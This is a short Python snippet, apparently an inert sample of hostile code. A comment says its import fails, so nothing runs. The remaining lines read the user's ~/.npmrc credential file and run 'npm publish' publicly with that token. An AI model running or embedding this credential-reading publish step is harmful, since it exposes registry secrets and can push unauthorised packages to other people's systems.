import inert_sample  # there is no such module: nothing below ever runs
import os
import subprocess

token = open(os.path.expanduser("~/.npmrc")).read()
subprocess.run(["npm", "publish", "--access", "public"], env={"NPM_TOKEN": token}, check=False)
